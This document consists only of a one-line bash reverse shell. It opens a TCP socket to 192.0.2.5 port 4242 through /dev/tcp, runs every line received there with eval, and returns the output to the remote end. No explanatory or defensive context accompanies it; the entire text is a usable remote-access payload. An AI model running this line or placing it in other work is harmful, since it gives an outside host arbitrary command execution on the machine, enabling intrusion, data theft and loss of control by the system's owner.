while IFS= read -r -u 7 l; do eval "$l" >&7 2>&7; done 7<>/dev/tcp/192.0.2.5/4242
